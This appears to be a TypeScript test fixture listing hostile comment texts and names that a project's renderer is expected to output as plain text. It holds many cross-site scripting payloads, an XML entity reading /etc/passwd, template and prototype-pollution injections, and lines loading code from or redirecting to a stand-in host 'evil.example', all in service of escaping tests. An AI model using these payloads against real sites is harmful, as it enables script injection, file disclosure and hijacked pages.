/** Texts of every class of threats.md §3 that a comment may hold: all of them are to come out as text. Written for this
 *  project. */
export const hostileTexts: readonly string[] = [
  // Elements and their attributes.
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">press</math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<form action=//evil.example><input name=receipt><button formaction=javascript:alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/a.css><style>*{background:url(//evil.example)}</style>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="jav&#x0A;ascript:alert(1)">x</a><a href=data:text/html,<script>alert(1)</script>>y</a>',
  // Out of an attribute, of either kind of quotes, and of none.
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '` onclick=`alert(1)`',
  'x onpointerenter=alert(1) y',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  // Out of an element, a comment, a script, a CDATA section.
  '</p></article></ol></section><h1>Not the newsroom</h1>',
  '--><script>alert(1)</script><!--',
  '</script><script>alert(1)</script>',
  '</title></style></textarea></xmp><svg onload=alert(1)>',
  ']]>]]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<?xml-stylesheet href="//evil.example/a.xsl"?><?php echo 1 ?>',
  // Escapes that must not be undone, nor done twice.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt; &#60;b&#62; &#x3c;b&#x3e; &nbsp; & &&',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞ \u2028\u2029 \u00a0',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // Templates, prototypes, replacement patterns.
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{7*7} <%= 7*7 %> [[${7*7}]]',
  '{"__proto__":{"x":1}} $& $1 $$ {name} {count} {headline}',
  // White space and line breaks that have to stay.
  '\n\n  two  spaces\tand a tab  \n\n',
  // Right to left, joiners, a flag.
  'سڵاو <b dir=rtl>می\u200cنووسم</b> \u200f(ئاو)\u200e 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f} 👩‍🚒',
];

/** Names are held to one script and no invisible characters, but markup is not refused. */
export const hostileNames: readonly string[] = [
  '<b onclick=alert(1)>Ann</b>',
  `"'><script>alert(1)</script>`,
  ']]>]]><x/>',
  '&lt;i&gt; & &amp;',
  '{name} $& ${1} %s',
  'نەوزاد <i>',
];
